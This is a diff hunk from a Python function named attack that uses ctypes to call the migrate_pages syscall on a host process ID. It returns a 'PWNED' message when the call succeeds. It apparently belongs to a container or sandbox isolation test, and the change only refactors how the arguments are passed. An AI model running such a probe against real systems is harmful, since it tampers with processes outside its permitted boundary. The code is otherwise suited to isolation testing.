@@ -14,7 +14,8 @@ def attack(target):
     libc.syscall.restype = ctypes.c_long
     number = NUMBER[os.uname().machine]
     mask = ctypes.create_string_buffer(bytes([1, 0, 0, 0, 0, 0, 0, 0]), 8)
-    result = libc.syscall(*map(ctypes.c_long, (number, target["host_pid"], 1, ctypes.addressof(mask), ctypes.addressof(mask))))
+    arguments = (target["host_pid"], 1, ctypes.addressof(mask), ctypes.addressof(mask))
+    result = libc.syscall(ctypes.c_long(number), *map(ctypes.c_long, arguments))
     if result < 0:
         raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
     return f"PWNED: migrate_pages returned {result}"
